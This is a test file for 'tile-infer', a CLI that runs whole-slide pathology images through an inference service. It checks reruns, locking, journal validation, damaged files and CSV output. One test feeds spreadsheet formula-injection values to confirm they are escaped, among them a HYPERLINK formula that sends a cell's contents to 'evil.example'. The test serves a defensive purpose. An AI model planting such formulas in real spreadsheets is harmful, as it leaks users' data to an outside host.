// Results that never lie (issue 28), each as tile-infer runs against the real service: a rerun
// under another plan redoes the slide (or names what changed), an added heatmap is drawn without
// posting a tile; a different file under a known name is refused however little of it differs;
// one writer per output folder; a tiles folder with a tile of another size; journals that were
// tampered with; summary cells a spreadsheet would run; and failures that name their code (an
// output that cannot be written, a damaged tile, a file cut short, a missing overview level).
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { fromFile } from 'geotiff';
import sharp from 'sharp';
import t from 'tap';
import { writeNullPackage } from '../../bench/null-models.js';
import { renderLevel0, writeSlide } from '../../tools/synthetic/slide.js';
import { startServer, waitFor, type TestServer } from '../helpers/server.js';
import { outputs, slideCommand, smallSlide as spec, tileInfer } from '../helpers/tile-infer.js';
import { tempDir } from '../../tools/temp-dir.js';

const dir = tempDir('results');
chmodSync(dir, 0o755);
let server: TestServer;
const slide = (paths: string[], out: string, extra: string[] = [], model = 'null-224') =>
  slideCommand(paths, { model, out, server: server.url }, extra);
const rowsOf = (out: string) =>
  (
    parse(readFileSync(join(out, 'summary.csv')), { columns: true }) as {
      slide: string;
      status: string;
      tiles: string;
      reason: string;
    }[]
  ).map((r) => ({ ...r, tiles: Number(r.tiles) }));

t.before(async () => {
  const models = tempDir('results-models');
  server = await startServer({
    models: [
      { name: 'tissue-seg', instances: 1, intra_op_threads: 1 },
      { name: 'null-224', path: writeNullPackage(models, 224), max_batch: 1 },
      { name: 'gene-expr', instances: 1, intra_op_threads: 1 },
    ],
  });
});
t.teardown(() => server.stop());

/** Tiles the service has answered for a model, from its metrics. */
async function served(model: string): Promise<number> {
  const text = await (await server.get('/metrics')).text();
  return text
    .split('\n')
    .filter((l) => l.startsWith('tile_requests_total{') && l.includes(`model="${model}"`))
    .reduce((n, l) => n + Number(l.split(' ').pop()), 0);
}

t.test('a rerun under another plan redoes the slide; --no-overwrite fails it naming what changed', async (t) => {
  const path = join(dir, 'plan.tif');
  await writeSlide(path, spec(1));
  const out = join(dir, 'plan-out');
  const fresh = async (name: string, args: string[]) => {
    const f = join(dir, name);
    t.equal((await tileInfer(slide(args, f, [], undefined))).code, 0);
    return { rows: rowsOf(f), files: outputs(f) };
  };
  t.equal((await tileInfer(slide([path], out, ['--min-tissue', '0.9']))).code, 0);
  const strict = rowsOf(out)[0].tiles;
  const rerun = await tileInfer(slide([path], out, ['--min-tissue', '0.25']));
  t.equal(rerun.code, 0, rerun.stderr);
  t.notMatch(rerun.stderr, /finished before/);
  const loose = await fresh('plan-fresh', [path]);
  t.equal(rowsOf(out)[0].tiles, loose.rows[0].tiles, `${loose.rows[0].tiles} tiles, as a fresh folder gives`);
  t.ok(loose.rows[0].tiles > strict, `more than the ${strict} tiles at --min-tissue 0.9`);
  t.same(
    outputs(out).get('predictions_null-224/plan.h5'),
    loose.files.get('predictions_null-224/plan.h5'),
    "the fresh run's file",
  );

  const refused = await tileInfer(slide([path], out, ['--min-tissue', '0.9', '--no-overwrite']));
  t.equal(refused.code, 3);
  t.match(rowsOf(out)[0], {
    status: 'failed',
    reason:
      /^\[TILE_ERR_COHORT_PLAN_CHANGED\] .*plan\.tif: finished in this --out under another plan \(--min-tissue 0\.25 -> 0\.9\); not redone \(--no-overwrite\)/,
  });
  t.same(
    outputs(out).get('predictions_null-224/plan.h5'),
    loose.files.get('predictions_null-224/plan.h5'),
    'untouched',
  );

  // A manifest's mpp: the slide is another size in micrometres, so another grid.
  writeFileSync(join(dir, 'plan.csv'), 'wsi,mpp\nplan.tif,0.25\n');
  const byManifest = await tileInfer(slide([join(dir, 'plan.csv')], out));
  t.equal(byManifest.code, 0, byManifest.stderr);
  const manifestFresh = await fresh('plan-manifest-fresh', [join(dir, 'plan.csv')]);
  t.equal(
    rowsOf(out)[0].tiles,
    manifestFresh.rows[0].tiles,
    `${manifestFresh.rows[0].tiles} tiles at the manifest's 0.25 µm/px, as a fresh folder gives`,
  );
  t.not(manifestFresh.rows[0].tiles, loose.rows[0].tiles);
  t.match(
    (await tileInfer(slide([join(dir, 'plan.csv')], out))).stderr,
    /plan\.tif: finished before \(\d+ tiles\); skipped/,
    'the same plan again is skipped',
  );
});

t.test('an added --heatmap is drawn from the kept results without posting a tile', async (t) => {
  const path = join(dir, 'heat.tif');
  await writeSlide(path, spec(2));
  const out = join(dir, 'heat-out');
  t.equal((await tileInfer(slide([path], out, [], 'gene-expr'))).code, 0);
  const before = await served('gene-expr');
  const files = outputs(out);
  const added = await tileInfer(slide([path], out, ['--heatmap', 'ESR1'], 'gene-expr'));
  t.equal(added.code, 0, added.stderr);
  t.notMatch(added.stderr, /finished before/);
  t.ok(existsSync(join(out, 'heatmaps_gene-expr/heat_ESR1.png')), 'the heatmap');
  t.equal(await served('gene-expr'), before, 'no tile posted');
  for (const [name, bytes] of files) t.same(outputs(out).get(name), bytes, `${name} the same`);
  t.match(
    (await tileInfer(slide([path], out, ['--heatmap', 'ESR1'], 'gene-expr'))).stderr,
    /finished before/,
    'then skipped',
  );
  // Redone under another plan without it: the old plan's heatmap goes with it.
  const redone = await tileInfer(slide([path], out, ['--min-tissue', '0.9'], 'gene-expr'));
  t.equal(redone.code, 0, redone.stderr);
  t.notOk(existsSync(join(out, 'heatmaps_gene-expr/heat_ESR1.png')), "no heatmap of the old plan's tiles");
  t.ok(existsSync(join(out, 'predictions_gene-expr/heat.h5')), "the new plan's predictions");
});

t.test('a different file under a known name is refused, however little of it differs', async (t) => {
  mkdirSync(join(dir, 'orig'));
  mkdirSync(join(dir, 'copy'));
  mkdirSync(join(dir, 'same'));
  // Over 3 MB: bytes in the middle, away from the first and last MiB.
  const orig = join(dir, 'orig/big.tif');
  await writeSlide(orig, spec(3, { widthUm: 3000, heightUm: 2000, islands: [{ cx: 400, cy: 400, rx: 200, ry: 150 }] }));
  const bytes = readFileSync(orig);
  t.ok(bytes.length > 3 << 20, `${bytes.length} bytes`);
  const changed = Buffer.from(bytes);
  for (let i = 1_200_000; i < 1_500_000; i++) changed[i] ^= 0x5a;
  writeFileSync(join(dir, 'copy/big.tif'), changed);
  copyFileSync(orig, join(dir, 'same/big.tif'));
  const out = join(dir, 'big-out');
  t.equal((await tileInfer(slide([orig], out))).code, 0);
  const files = outputs(out);
  const other = await tileInfer(slide([join(dir, 'copy/big.tif')], out));
  t.equal(other.code, 3, other.stderr);
  t.match(rowsOf(out)[0], {
    status: 'failed',
    reason:
      /^\[TILE_ERR_COHORT_NAME_CLASH\] .*copy\/big\.tif: its outputs would be named "big", which this output folder already holds for .*orig\/big\.tif, another slide/,
  });
  t.same(outputs(out), files, "the first slide's files untouched");
  const same = await tileInfer(slide([join(dir, 'same/big.tif')], out));
  t.equal(same.code, 0);
  t.match(same.stderr, /finished before/, 'a copy with the same content is the same slide');
});

t.test(
  'one writer per output folder: a second run fails at once; a lock left by a dead run is taken over',
  async (t) => {
    const path = join(dir, 'lock.tif');
    await writeSlide(
      path,
      spec(4, { widthUm: 1400, heightUm: 1000, islands: [{ cx: 700, cy: 500, rx: 600, ry: 420 }] }),
    );
    const out = join(dir, 'lock-out');
    const lock = join(out, 'tile-infer.lock');
    // The first run is stopped (SIGSTOP) while it holds the folder, the second run meanwhile.
    let second: Promise<Awaited<ReturnType<typeof tileInfer>>> | undefined;
    const first = await tileInfer(slide([path], out, ['--concurrency', '1']), {
      onStart: (proc) =>
        void waitFor(() => existsSync(lock), 60000).then(() => {
          proc.kill('SIGSTOP');
          second = tileInfer(slide([path], out)).finally(() => proc.kill('SIGCONT'));
        }),
    });
    t.equal(first.code, 0, first.stderr);
    const lost = await second!;
    t.equal(lost.code, 1, 'the second run fails');
    t.match(
      lost.stderr,
      new RegExp(
        `^tile-infer: \\[TILE_ERR_OUTPUT_LOCKED\\] \\S+lock-out is being written by another tile-infer \\(pid \\d+ on ${hostname()}, started \\S+; \\S+tile-infer\\.lock\\)`,
      ),
    );
    t.equal(lost.stderr.split('\n').length, 2, 'one line');
    t.notOk(existsSync(lock), 'the lock is given back');
    t.equal(rowsOf(out).length, 1);
    t.match(rowsOf(out)[0], { status: 'done' });

    // A lock whose process is gone: this host's is taken over, another host's is not.
    const dead = Number(execFileSync('/bin/sh', ['-c', 'echo $$']).toString());
    writeFileSync(
      lock,
      JSON.stringify({ host: hostname(), pid: dead, started: '2026-01-01T00:00:00.000Z', command: 'slide' }),
    );
    const taken = await tileInfer(slide([path], out));
    t.equal(taken.code, 0, taken.stderr);
    t.match(
      taken.stderr,
      new RegExp(
        `tile-infer\\.lock: taking over the lock of pid ${dead} \\(started 2026-01-01T00:00:00\\.000Z\\), which is gone`,
      ),
    );
    writeFileSync(
      lock,
      JSON.stringify({ host: 'elsewhere', pid: dead, started: '2026-01-01T00:00:00.000Z', command: 'slide' }),
    );
    const remote = await tileInfer(slide([path], out));
    t.equal(remote.code, 1);
    t.match(remote.stderr, /\[TILE_ERR_OUTPUT_LOCKED\] .*pid \d+ on elsewhere/);
    rmSync(lock);

    // Shards lock their own file: two shards run into one folder together.
    const other = join(dir, 'lock2.tif');
    await writeSlide(other, spec(5));
    const shards = await Promise.all(
      ['0/2', '1/2'].map((s) => tileInfer(slide([path, other], join(dir, 'shards-out'), ['--shard', s]))),
    );
    t.same(
      shards.map((r) => r.code),
      [0, 0],
      shards.map((r) => r.stderr).join('\n'),
    );
  },
);

t.test('tiles: a tile of another size is recorded with its reason; the others are posted', async (t) => {
  const folder = join(dir, 'sizes');
  mkdirSync(folder);
  const level0 = renderLevel0(spec(6));
  const cut = (left: number, side: number) =>
    sharp(level0.rgb, { raw: { width: level0.width, height: level0.height, channels: 3 } })
      .extract({ left, top: 200, width: side, height: side })
      .png()
      .toBuffer();
  writeFileSync(join(folder, 'tile_x0_y200.png'), await cut(0, 512));
  for (let k = 1; k < 5; k++) writeFileSync(join(folder, `tile_x${k * 224}_y200.png`), await cut(k * 224, 224));
  const out = join(dir, 'sizes-out');
  const run = await tileInfer(['tiles', folder, '--model', 'null-224', '--out', out, '--server', server.url]);
  t.equal(run.code, 3, run.stderr);
  const rows = rowsOf(out);
  t.match(
    rows.find((r) => r.slide.endsWith('tile_x0_y200.png')),
    { status: 'failed', reason: /\[TILE_ERR_CLIENT_HTTP\] 422 from the service: .*224/ },
  );
  t.match(
    rows.find((r) => r.slide === folder),
    { status: 'done', tiles: 4 },
  );
});

t.test(
  'journal lines are checked: a value no float32 holds, a wrong length, a tile twice fail the slide',
  async (t) => {
    const path = join(dir, 'journal.tif');
    await writeSlide(path, spec(7));
    const out = join(dir, 'journal-out');
    t.equal((await tileInfer(slide([path], out))).code, 0);
    const journal = join(out, '.journal/journal.null-224.jsonl');
    const good = readFileSync(journal, 'utf8');
    const lines = good.split('\n');
    const line2 = JSON.parse(lines[1]);
    for (const [edit, reason] of [
      [
        () => [lines[0], JSON.stringify({ ...line2, output: [1e39, 0, 0] }), ...lines.slice(2)],
        /line 2: tile \d+: output\[0\] is 1e\+39, not a finite float32/,
      ],
      [
        () => [lines[0], lines[1], JSON.stringify({ ...JSON.parse(lines[2]), output: [1, 2] }), ...lines.slice(3)],
        /line 3: tile \d+: output has 2 values, the model gives 3/,
      ],
      [
        () => [lines[0], lines[1], JSON.stringify({ ...line2, output: [9, 9, 9] }), ...lines.slice(2)],
        new RegExp(`line 3: tile ${line2.idx} is there twice`),
      ],
    ] as const) {
      writeFileSync(journal, edit().join('\n'));
      // As if the run had been killed before its end: the journal is read again.
      rmSync(join(out, '.journal/journal.null-224.done.json'), { force: true });
      const run = await tileInfer(slide([path], out));
      t.equal(run.code, 3, run.stderr);
      t.match(rowsOf(out)[0], {
        status: 'failed',
        reason: new RegExp(
          `^\\[TILE_ERR_OUTPUT_JOURNAL\\] \\S+journal\\.null-224\\.jsonl: ${reason.source}; delete the file to redo the slide`,
        ),
      });
    }
  },
);

t.test('summary.csv: cells a spreadsheet would run are neutralised; every slide of the cohort is listed', async (t) => {
  const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', '+cmd.tif', '-2+3.tif', '@SUM(A1).tif', '\tx.tif'];
  const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
  writeFileSync(join(dir, 'evil.csv'), `wsi\n${evil.map(quote).join('\n')}\n`);
  const out = join(dir, 'evil-out');
  const run = await tileInfer(slide([join(dir, 'evil.csv')], out));
  t.equal(run.code, 3);
  const rows = parse(readFileSync(join(out, 'summary.csv')), { columns: true }) as Record<string, string>[];
  t.same(
    rows.map((r) => r.slide),
    evil.map((e) => `'${e}`),
    "each with a ' in front",
  );
  for (const r of rows) t.notMatch(r.reason, /^[=+\-@\t\r]/);
  t.equal((await tileInfer(slide([join(dir, 'evil.csv')], out))).code, 3);
  t.same(
    rowsOf(out).map((r) => r.slide),
    evil.map((e) => `'${e}`),
    'a rerun: still a row each',
  );

  // Two runs into one folder, a slide each: the summary lists both.
  const a = join(dir, 'first.tif');
  const b = join(dir, 'second.tif');
  await writeSlide(a, spec(8));
  await writeSlide(b, spec(9));
  const both = join(dir, 'both-out');
  t.equal((await tileInfer(slide([a], both))).code, 0);
  t.equal((await tileInfer(slide([b], both))).code, 0);
  t.same(
    rowsOf(both).map((r) => [r.slide, r.status]),
    [
      [b, 'done'],
      [a, 'done'],
    ],
    "this run's slide, then the earlier one's",
  );
});

/** File modes bind tile-infer even when the test runs as root. */
const asUser = { fileModesBind: true };

t.test('an output that cannot be written: one line naming the path and the reason, no HDF5 noise', async (t) => {
  const path = join(dir, 'ro.tif');
  await writeSlide(path, spec(10));
  const readOnly = join(dir, 'ro-out');
  mkdirSync(readOnly, { mode: 0o555 });
  chmodSync(readOnly, 0o555);
  const run = await tileInfer(slide([path], readOnly), asUser);
  t.equal(run.code, 1, run.stderr);
  t.match(
    run.stderr,
    /^tile-infer: \[TILE_ERR_OUTPUT_WRITE\] cannot write \S+ro-out\/tile-infer\.lock: EACCES: permission denied\n$/,
  );

  const out = join(dir, 'features-out');
  t.equal((await tileInfer(slide([path], out))).code, 0);
  chmodSync(join(out, 'predictions_null-224'), 0o555);
  rmSync(join(out, '.journal/ro.null-224.done.json'));
  const h5 = await tileInfer(slide([path], out), asUser);
  t.equal(h5.code, 3, h5.stderr);
  t.notMatch(h5.stderr, /HDF5|create_attribute/);
  t.match(rowsOf(out)[0], {
    status: 'failed',
    reason: /^\[TILE_ERR_OUTPUT_WRITE\] cannot write \S+predictions_null-224\/ro\.h5: EACCES: permission denied$/,
  });
});

t.test('a damaged tile, a file cut short, a missing overview level: each said as such', async (t) => {
  const path = join(dir, 'damaged.tif');
  await writeSlide(path, spec(11));
  const bytes = readFileSync(path);
  const tiff = await fromFile(path);
  const image = await tiff.getImage(0);
  const offsets = (await image.fileDirectory.loadValue('TileOffsets')) as ArrayLike<number>;
  const counts = (await image.fileDirectory.loadValue('TileByteCounts')) as ArrayLike<number>;
  tiff.close();
  // The tile under the island's centre (700, 500 px): a marker no JPEG has, in its data.
  const [tx, ty] = [Math.floor(700 / image.getTileWidth()), Math.floor(500 / image.getTileHeight())];
  const k = ty * Math.ceil(image.getWidth() / image.getTileWidth()) + tx;
  const damaged = Buffer.from(bytes);
  for (let i = 0; i < 64; i += 2) damaged.set([0xff, 0xa0], Number(offsets[k]) + Math.floor(Number(counts[k]) / 2) + i);
  writeFileSync(path, damaged);
  // Cut short: its last directory lost, and most of it.
  writeFileSync(join(dir, 'cut-end.tif'), bytes.subarray(0, Math.floor(bytes.length * 0.97)));
  writeFileSync(join(dir, 'cut-half.tif'), bytes.subarray(0, Math.floor(bytes.length * 0.5)));
  // No level near 8 µm/px.
  await writeSlide(join(dir, 'flat.tif'), spec(12, { downsamples: [1, 2] }));
  const out = join(dir, 'damaged-out');
  const run = await tileInfer(
    slide([path, join(dir, 'cut-end.tif'), join(dir, 'cut-half.tif'), join(dir, 'flat.tif')], out),
  );
  t.equal(run.code, 3, run.stderr);
  const [tile, end, half, flat] = rowsOf(out);
  t.match(tile, {
    status: 'failed',
    reason: new RegExp(
      `^\\[TILE_ERR_SLIDE_UNREADABLE\\] \\S+damaged\\.tif: level 0: TIFF tile column ${tx}, row ${ty} \\(directory 0\\): `,
    ),
  });
  t.match(end, {
    status: 'failed',
    reason:
      /^\[TILE_ERR_SLIDE_TRUNCATED\] \S+cut-end\.tif: the file is cut short: it is \d+ bytes, and directory \d starts at byte \d+; copy it again/,
  });
  t.match(half, { status: 'failed', reason: /^\[TILE_ERR_SLIDE_TRUNCATED\] \S+cut-half\.tif: the file is cut short/ });
  t.match(flat, {
    status: 'done',
    reason:
      /^warning: no pyramid level near 8 µm\/px \(the coarsest is level 1, 1 µm\/px\): the tissue overview was reduced 8x from it/,
  });
});

t.test("the supervisor's socket folder is removed after a kill -9, by the next start", async (t) => {
  const mine = (pid: number) =>
    readdirSync(tmpdir()).filter((n) => n.startsWith('tile-infer.') && n.split('.')[2] === String(pid));
  const killed = await startServer({ models: [{ name: 'tissue-seg', instances: 1, intra_op_threads: 1 }] });
  const pid = killed.proc.pid!;
  t.equal(mine(pid).length, 1, 'a folder named after the supervisor');
  await killed.stop('SIGKILL');
  t.equal(mine(pid).length, 1, 'left by the kill');
  const next = await startServer({ models: [{ name: 'tissue-seg', instances: 1, intra_op_threads: 1 }] });
  t.equal(mine(pid).length, 0, 'removed by the next start');
  await next.stop();
  t.equal(mine(next.proc.pid!).length, 0, 'and a stopped one removes its own');
});
